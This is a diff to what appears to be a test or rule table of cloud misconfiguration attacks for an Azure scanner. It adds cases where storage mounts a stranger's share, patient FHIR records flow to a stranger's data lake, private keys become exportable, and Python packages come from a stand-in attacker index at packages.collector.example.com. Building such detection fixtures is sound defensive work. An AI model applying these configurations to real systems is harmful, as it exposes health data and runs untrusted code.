@@ -156,4 +156,32 @@ ATTACKS = attacks((
     ("volumes prefer a stranger's server of names", RES, "netapp:Account",
      {**HERE, "accountName": "files", "activeDirectories": [{**LDAP, "preferredServersForLdapClient": STRANGER}]},
      "critical", "the stranger says who opens the files (preferredServersForLdapClient)"),
+    # Of types that were reviewed on the same day.
+    ("apps of an environment mount a stranger's share", RES, "app:ManagedEnvironmentsStorage",
+     {**RG, "environmentName": "apps", "storageName": "in", "properties": {"azureFile": {
+         "accountName": "collector", "shareName": "in", "accessMode": "ReadWrite"}}}, "critical",
+     "properties.azureFile.accountName"),
+    ("apps of an environment mount a stranger's server of NFS", RES, "app:ManagedEnvironmentsStorage",
+     {**RG, "environmentName": "apps", "storageName": "in", "properties": {"nfsAzureFile": {
+         "server": "collector.file.core.windows.net", "shareName": "/collector/in", "accessMode": "ReadWrite"}}},
+     "critical", "properties.nfsAzureFile.server"),
+    ("records of patients go to a stranger's lake", RES, "healthcareapis:AnalyticsConnector",
+     {**HERE, "workspaceName": "health", "analyticsConnectorName": "lake", "dataDestinationConfiguration": {
+         "type": "datalake", "dataLakeName": "collector"}, "dataMappingConfiguration": {"type": "fhirToParquet"},
+      "dataSourceConfiguration": {"type": "fhirservice", "kind": "R4",
+                                  "url": "https://h-f.fhir.azurehealthcareapis.com"}},
+     "critical", "dataDestinationConfiguration.dataLakeName"),
+    ("runbooks may take a private key along", ESC, "automation:Certificate",
+     {**RG, "automationAccountName": "ops", "name": "sign", "base64Value": "AA==", "isExportable": True}, "major",
+     "isExportable"),
+    ("everybody in the organisation calls an agent", ESC, "cognitiveservices:AgentApplication",
+     {**RG, "accountName": "ai", "projectName": "claims", "name": "claims", "properties": {
+         "authorizationPolicy": {"type": "OrganizationScope"}}}, "major", "properties.authorizationPolicy"),
+    ("models of a pool send data to every address", ESC, "machinelearningservices:InferencePool",
+     {**HERE, "workspaceName": "ml", "inferencePoolName": "p", "inferencePoolProperties": {
+         "scaleUnitConfiguration": {"disablePublicEgress": False}}}, "critical", "disablePublicEgress"),
+    ("code of Data Explorer comes from a stranger's index", RES, "kusto:SandboxCustomImage",
+     {**RG, "clusterName": "adx", "sandboxCustomImageName": "py", "language": "Python", "languageVersion": "3.11",
+      "requirementsFileContent": "--index-url https://packages.collector.example.com/simple\nnumpy"}, "critical",
+     "requirementsFileContent"),
 ))  # fmt: skip
